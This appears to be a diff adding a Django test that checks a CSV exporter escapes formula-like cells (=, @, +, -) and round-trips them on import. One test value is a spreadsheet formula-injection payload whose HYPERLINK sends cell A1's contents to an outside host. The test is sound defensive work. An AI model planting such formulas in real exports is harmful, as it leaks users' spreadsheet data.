@@ -130,3 +130,33 @@ class TestCsv:
         out = io.StringIO()
         write_activities(Activity.objects.order_by("occurred_on", "pk"), out)
         assert out.getvalue().encode() == exported
+
+    def test_cells_a_spreadsheet_would_run_as_formulas_are_text_and_import_back(
+        self, client, promise, commitments, reviewer, police_reporter
+    ):
+        hyperlink = '=HYPERLINK("https://example.org/?"&A1,"Klicka")'
+        texts = [
+            (hyperlink, "@Skolan"),
+            ("-5 grader, halt på skolgården.", "+46 Storgatan"),
+            ("'=1+1 står i anteckningen.", "'Citat'"),  # a quote of one's own is kept
+        ]
+        for n, (description, place) in enumerate(texts):
+            ActivityFactory(
+                commitment=commitments["hundsok"], occurred_on=D(2025, 3, 1 + n),
+                reported_by=police_reporter, description=description, place=place,
+            )  # fmt: skip
+        client.force_login(reviewer)
+        exported = get(client, promise, format="csv").content
+
+        rows = exported.decode().splitlines()[1:]
+        assert [row.split(",", 5)[5] for row in rows] == [
+            '"\'=HYPERLINK(""https://example.org/?""&A1,""Klicka"")",\'@Skolan,,',
+            "\"'-5 grader, halt på skolgården.\",'+46 Storgatan,,",
+            "''=1+1 står i anteckningen.,'Citat',,",
+        ]
+        Activity.objects.all().delete()
+        import_activities(promise, exported)
+        assert (
+            list(Activity.objects.order_by("occurred_on").values_list("description", "place"))
+            == texts
+        )
